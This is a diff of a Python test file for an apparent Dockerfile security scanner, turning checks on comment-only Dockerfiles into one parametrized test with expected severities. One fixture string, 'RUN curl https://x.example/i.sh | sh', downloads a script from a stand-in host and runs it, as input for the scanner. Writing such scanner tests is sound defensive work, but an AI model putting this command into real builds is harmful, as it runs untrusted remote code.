@@ -265,21 +265,19 @@ def test_an_index_given_through_a_build_argument_is_judged_by_the_url_it_sets(tm
     assert found == [("MLS509", "high")]  # no value in the file: whatever the build passes
 
 
-def test_a_dockerfile_of_comments_only_is_low_and_one_without_from_is_not(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("text", "severity"),
+    [
+        ("# TODO: write the Dockerfile for the kfp-cli image\n\n# syntax hint\n", "low"),  # builds nothing
+        ("# syntax=docker/dockerfile:1\n# TODO\n", "low"),  # Docker's own frontend: still nothing
+        ("# TODO\nRUN curl https://x.example/i.sh | sh\n", "medium"),  # instructions without FROM
+        ("# syntax=ghcr.io/some-user/frontend:latest\n# it reads build.yaml\n", "medium"),  # a custom frontend builds
+    ],
+)
+def test_a_dockerfile_of_comments_only_is_low_unless_something_builds_it(
+    tmp_path: Path, text: str, severity: str
+) -> None:
     path = tmp_path / "Dockerfile"
-    path.write_text("# TODO: write the Dockerfile for the kfp-cli image\n\n# syntax hint\n")
+    path.write_text(text)
     found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
-    assert found == [("MLS909", "low")]
-    path.write_text("# TODO\nRUN curl https://x.example/i.sh | sh\n")
-    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
-    assert found == [("MLS909", "medium")]
-
-
-def test_comments_only_under_a_custom_frontend_are_not_empty(tmp_path: Path) -> None:
-    path = tmp_path / "Dockerfile"
-    path.write_text("# syntax=ghcr.io/some-user/buildkit-frontend:latest\n# the frontend reads build.yaml\n")
-    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
-    assert found == [("MLS909", "medium")]
-    path.write_text("# syntax=docker/dockerfile:1\n# TODO\n")
-    found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
-    assert found == [("MLS909", "low")]
+    assert found == [("MLS909", severity)]
